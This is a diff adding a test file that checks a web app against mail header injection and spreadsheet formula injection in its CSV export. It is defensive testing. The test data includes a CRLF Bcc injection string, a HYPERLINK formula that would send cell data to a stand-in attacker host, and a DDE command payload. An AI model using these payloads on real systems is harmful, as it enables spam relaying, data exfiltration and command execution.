@@ -1,0 +1,82 @@
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { overNetwork } from '../testing/network-site.ts';
+import { jobBody, makeOld } from '../testing/test-bodies.ts';
+import { addressBelow, noon, type TestSite, testSite } from '../testing/test-site.ts';
+
+/* Words of people in what other programs read: headers of mails, and cells of spreadsheets. */
+
+let site: TestSite;
+beforeAll(async () => {
+  site = await overNetwork(await testSite(() => noon, { RATE_LIMITS: '0' }));
+});
+afterAll(() => site.close());
+
+const post = (path: string, body: unknown) =>
+  site.ask(addressBelow(path), {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(body),
+  });
+
+const attack = 'Huda\r\nBcc: all@post.example\r\n\r\nBuy now';
+
+it('no name of an account begins another header of a mail', async () => {
+  const password = 'swordfish-and-olives';
+  const fields = {
+    email: 'huda@post.example',
+    password,
+    passwordConfirmation: password,
+    termsAccepted: true,
+  };
+  expect((await post('register', { ...fields, name: attack })).status).toBe(201);
+  const mail = await site.nextMail();
+  expect(mail.receiver).toBe('huda@post.example');
+  expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
+  expect([mail.bcc, mail.cc, mail.to?.length]).toEqual([undefined, undefined, 1]);
+});
+
+it('neither does the title of a post, nor what an admin is told of one', async () => {
+  const [poster, judge] = [await site.member({ name: attack }), await site.member({ role: 'moderator' })];
+  await makeOld(site, poster);
+  const made = await poster.ask('POST', 'jobs', { ...jobBody(site), title: attack });
+  expect(made.status, await made.clone().text()).toBe(201);
+  const { id } = (await made.json()).data;
+  const refused = await judge.ask('POST', `admin/queue/job/${id}/reject`, { reason: attack });
+  expect(refused.status).toBe(200);
+  const mail = await site.nextMail();
+  expect([mail.receiver, mail.bcc, mail.cc]).toEqual([poster.email, undefined, undefined]);
+  expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
+  expect(mail.subject).not.toMatch(/[\r\n]/);
+});
+
+it.each([
+  'huda@post.example\r\nBcc: all@post.example',
+  'huda@post.example, all@post.example',
+  'Huda <huda@post.example>',
+  '"a@b"@post.example',
+])('a mail goes to no address like %j', async (email) => {
+  for (const path of ['subscribes', 'forgot-password', 'contact'])
+    expect([path, (await post(path, { name: 'Huda', email, message: 'Hello' })).status]).toEqual([path, 422]);
+  expect(await site.otherMails()).toEqual([]);
+});
+
+it('no cell of a file for spreadsheets is a formula', async () => {
+  const admin = await site.member({ role: 'admin' });
+  const formulas = [
+    '=HYPERLINK("https://evil.example?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1)',
+    '\t=1+1',
+    "'=1+1",
+  ];
+  const ids = await site.addBusinesses(
+    ...formulas.map((name) => ({ name: { en: name }, street: name, website: 'https://yafa.example/' })),
+  );
+  expect(ids).toHaveLength(formulas.length);
+  const response = await admin.ask('GET', 'admin/transfer/export?kind=businesses');
+  expect(response.status, await response.clone().text()).toBe(200);
+  const text = await response.text();
+  expect(text).toContain('HYPERLINK');
+  expect(text).not.toMatch(/(^|[,\n])"?[=+\-@\t](?![\d.]+"?(,|\r|$))/m);
+});
